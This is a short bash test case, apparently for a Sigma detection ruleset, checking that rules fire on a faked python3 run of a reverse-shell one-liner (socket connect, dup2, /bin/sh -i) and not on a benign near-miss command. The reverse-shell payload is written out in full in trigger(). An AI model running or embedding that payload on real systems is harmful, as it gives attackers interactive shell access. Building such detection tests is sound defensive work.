# shellcheck shell=bash disable=SC2034 # DESC is read by test_sigma_ruleset.sh
DESC="a do-nothing python3 run with -c 'import socket,subprocess,os; ... os.dup2(s.fileno(),0); subprocess.call([\"/bin/sh\",\"-i\"])'"
trigger() {
    held "$(fake "$1" python3)" -c 'import socket,subprocess,os;s=socket.socket();s.connect(("127.0.0.1",'"$LISTEN_PORT"'));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'
}
near_miss() {
    held "$(fake "$1" python3)" -c 'import socket;print(socket.gethostname())'
}
